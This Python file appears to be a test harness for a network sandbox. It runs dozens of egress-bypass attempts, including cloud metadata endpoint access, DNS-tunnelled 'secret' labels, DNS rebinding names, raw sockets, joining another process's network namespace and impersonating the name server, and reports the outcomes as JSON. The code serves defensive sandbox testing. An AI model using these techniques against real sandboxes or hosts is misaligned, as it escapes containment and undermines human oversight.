"""Ways to reach another host than those that were granted: `python attacks.py [NAME …]` tries each.

It prints, in JSON, what each one got, or what stopped it. In the small Internet of the tests every address answers.
"""

import ctypes
import fcntl
import json
import os
import signal
import socket
import struct

SECONDS = 10
ALL = {}


def attack(function):
    """Put an attack into the table."""
    ALL[function.__name__] = function
    return function


def hello(host, port=443, family=socket.AF_UNSPEC, kind=socket.SOCK_STREAM, protocol=0, prepare=None):
    """Connect, and give what the other side says first."""
    last = OSError("there is no address")
    for family_of, _, _, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        with socket.socket(family_of, kind, protocol) as connection:
            connection.settimeout(SECONDS)
            try:
                if prepare:
                    prepare(connection)
                connection.connect(address)
                return said(connection)
            except OSError as error:
                last = error
    raise last


def said(connection):
    """Give what comes. Nothing is no success."""
    text = connection.recv(100).decode()
    if not text:
        raise OSError("it said nothing")
    return text


def ask(name, kind=1):
    """Make a question of DNS."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def answered(reply):
    """Tell how many records a reply has."""
    if not struct.unpack("!H", reply[6:8])[0]:
        raise OSError("there is no answer")
    return "an answer"


def server_of_names():
    """Find the name server: that of the sandbox, or where there is none, one of the network."""
    with open("/etc/resolv.conf") as file:
        found = [line.split()[1] for line in file if line.startswith("nameserver 127.")]
    return (found or ["9.9.9.9"])[0]


# other ports, and other hosts


@attack
def another_port():
    return hello("allowed.test", 80)


@attack
def each_port():
    address = socket.gethostbyname("allowed.test")
    for port in (22, 25, 53, 80, 8000, 8001, 8443):
        with socket.socket() as sock:
            sock.settimeout(SECONDS)
            if sock.connect_ex((address, port)) == 0 and not (port == 53 and address.startswith("127.")):
                return f"port {port}"
    raise OSError("no other port")


@attack
def another_name():
    return hello("other.test")


@attack
def another_address():
    return hello("93.184.216.35")


@attack
def another_address_of_ipv6():
    return hello("2606:4700::34")


@attack
def a_name_below():
    with open("/etc/hosts") as file:
        known = file.read()
    if "sub.allowed.test" in known:
        raise OSError("it was granted")
    return answered(exchange(ask("sub.allowed.test")))


@attack
def after_a_disconnect():
    """Connect to what is granted, dissolve that, and connect to another one."""
    with socket.socket() as sock:
        sock.settimeout(SECONDS)
        sock.connect((socket.gethostbyname("allowed.test"), 443))
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.connect(sock.fileno(), struct.pack("HxxIxxxxxxxx", socket.AF_UNSPEC, 0), 16):
            raise OSError(ctypes.get_errno(), "disconnect")
        sock.connect(("93.184.216.35", 443))
        return said(sock)


@attack
def fast_open():
    """Send the first bytes with the request for the connection."""
    with socket.socket() as sock:
        sock.sendto(b"x", 0x20000000, ("93.184.216.35", 443))
        return said(sock)


@attack
def by_multipath():
    return hello("93.184.216.35", protocol=262)


@attack
def by_datagrams():
    return datagram("93.184.216.35", 5000)


@attack
def by_datagrams_to_the_granted_host():
    return datagram("allowed.test", 443 if server_of_names().startswith("127.") else 5000)


def datagram(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(b"hello", (socket.gethostbyname(host), port))
        return sock.recv(100).decode()


@attack
def by_broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.settimeout(1)
        sock.sendto(b"hello", ("127.255.255.255", 5000))
        return sock.recv(100).decode()


# the host's loopback, and its own addresses


@attack
def loopback():
    return hello("127.0.0.1", 80)


@attack
def loopback_by_name():
    return hello("localhost", 80)


@attack
def loopback_of_ipv6():
    return hello("::1", 80)


@attack
def loopback_in_disguise():
    return hello("::ffff:127.0.0.1", 80, socket.AF_INET6)


@attack
def loopback_by_another_address():
    for last in (4, 54, 200, 254):
        try:
            return hello(f"127.0.0.{last}", 80)
        except OSError:
            continue
    return hello("127.1.2.3", 80)


@attack
def no_address():
    return hello("0.0.0.0", 80)


@attack
def no_address_of_ipv6():
    return hello("::", 80)


@attack
def own_address():
    return hello("10.99.0.1", 80)


@attack
def metadata():
    return hello("169.254.169.254", 80)


@attack
def metadata_of_ipv6():
    return hello("fd00:ec2::254", 80)


@attack
def a_neighbour():
    return hello("10.0.0.5", 80)


# names that were granted, and lead elsewhere


NAMES = {
    "rebind": 443, "rebind6": 443, "metadata": 80, "metadata6": 80, "private": 443, "own": 443, "interface": 443,
    "mapped": 443, "nat64": 443, "own64": 443, "sixtofour": 443, "azure": 80, "carrier": 443, "zero": 443,
}  # fmt: skip
for each, port in NAMES.items():
    ALL[f"name_{each}"] = lambda name=f"{each}.test", port=port: hello(name, port)


# names


def exchange(question):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(question, (server_of_names(), 53))
        return sock.recv(4096)


@attack
def ask_for_another_name():
    return answered(exchange(ask("other.test")))


@attack
def tell_by_a_name():
    """Put a secret before a name that was granted."""
    return answered(exchange(ask("c2VjcmV0.allowed.test")))


@attack
def tell_by_a_text():
    if server_of_names().startswith("127."):
        return answered(exchange(ask("allowed.test", 16)))
    return answered(exchange(ask("c2VjcmV0.allowed.test", 16)))


@attack
def ask_as_a_stream():
    with socket.create_connection((server_of_names(), 53), 2) as sock:
        question = ask("other.test")
        sock.sendall(len(question).to_bytes(2, "big") + question)
        return answered(sock.recv(4096)[2:])


@attack
def ask_another_server():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(ask("other.test"), ("9.9.9.9", 53))
        return answered(sock.recv(4096))


@attack
def ask_for_an_address():
    return socket.gethostbyaddr("93.184.216.35")[0]


@attack
def write_names():
    for path in ("/etc/hosts", "/etc/resolv.conf"):
        with open(path, "a"):
            pass
    return hello("other.test")


# other sockets, and other networks


@attack
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        return pinged(sock)


@attack
def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        return pinged(sock)


def pinged(sock):
    sock.settimeout(2)
    head = struct.pack("!BBHHH", 8, 0, 0xF7FD, 1, 1)
    sock.sendto(head, ("93.184.216.35", 0))
    return f"{len(sock.recv(100))} bytes"


@attack
def packets():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as sock:
        sock.bind(("lo", 0))
        return "all packets"


@attack
def netlink():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.bind((0, 0))
        return "routes"


@attack
def unix_sockets():
    with socket.socket(socket.AF_UNIX):
        return "sockets that are files"


@attack
def virtual_machine():
    with socket.socket(40, socket.SOCK_STREAM):
        return "the host of this machine"


@attack
def stream_control():
    with socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132):
        return "another protocol"


@attack
def join_the_host():
    """Enter the network namespace of another process."""
    libc = ctypes.CDLL(None, use_errno=True)
    own = os.readlink("/proc/self/ns/net")
    last = OSError("there is none")
    for pid in [name for name in os.listdir("/proc") if name.isdecimal()]:
        try:
            if os.readlink(f"/proc/{pid}/ns/net") == own:
                continue
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
            if libc.setns(fd, 0x40000000):
                raise OSError(ctypes.get_errno(), "setns")  # noqa: TRY301
        except OSError as error:
            last = error
            continue
        return f"the network of {pid}"
    raise last


@attack
def make_a_network():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x50000000):
        raise OSError(ctypes.get_errno(), "unshare")
    return "a network of its own"


@attack
def take_an_address():
    """Give the device an address, and a route."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        request = struct.pack("16sHH4s16x", b"lo:99", socket.AF_INET, 0, socket.inet_aton("192.168.77.1"))
        fcntl.ioctl(sock, 0x8916, request)
    return "an address"


@attack
def mark_packets():
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, 36, 1)
    return "packets with a mark"


@attack
def any_address():
    """Use an address that is not there."""
    with socket.socket() as sock:
        sock.setsockopt(socket.IPPROTO_IP, 19, 1)
        sock.bind(("93.184.216.77", 0))
    return "an address of others"


@attack
def repair():
    """Make a connection without asking anybody."""
    with socket.socket() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, 19, 1)
    return "a connection that nobody made"


@attack
def settings():
    with open("/proc/sys/net/ipv4/ip_forward", "r+") as file:
        file.write(file.read(1))
    return "the network's settings"


@attack
def be_the_name_server():
    """Answer in the place of the name server."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        address = server_of_names()
        sock.bind((address, 53) if address.startswith("127.") else ("127.0.0.1", 5353))
    return "the name server"


@attack
def be_the_host():
    """Listen where others look for the granted host."""
    with socket.socket() as sock:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        address = socket.gethostbyname("allowed.test")
        port = 443 if address.startswith("127.") else 4443
        sock.bind((address, port))
        sock.listen()
    return "the host"


@attack
def inherited():
    """Use a descriptor that nobody gave it."""
    held = []
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            held += [link] if fd > 2 and "socket:[" in (link := os.readlink(f"/proc/self/fd/{fd}")) else []
        except OSError:
            continue
    if not held and "GIVEN" not in os.environ:
        raise OSError("there is none")
    return ", ".join(held) or "what was given"


@attack
def who_is_there():
    """See devices and addresses of the host."""
    with open("/proc/net/dev") as file:
        names = [line.split(":")[0].strip() for line in file if ":" in line]
    with open("/proc/net/fib_trie") as file:
        text = file.read()
    if names == ["lo"] and "10.99.0.1" not in text:
        raise OSError("there is nothing but a loopback")
    return text[-100:]


def tried(name):
    """Try one attack in a process of its own, and give its outcome."""
    reader, writer = os.pipe()
    pid = os.fork()
    if not pid:
        os.close(reader)
        signal.alarm(SECONDS)
        try:
            outcome = {"got": ALL[name]()}
        except Exception as error:  # noqa: BLE001 - whatever stops it
            outcome = {"stopped": f"{type(error).__name__}: {error}"}
        os.write(writer, json.dumps(outcome).encode())
        os._exit(0)
    os.close(writer)
    with open(reader, "rb") as file:
        data = file.read()
    os.waitpid(pid, 0)
    return json.loads(data or '{"stopped": "it was killed"}')


if __name__ == "__main__":
    print(json.dumps({name: tried(name) for name in ALL}))
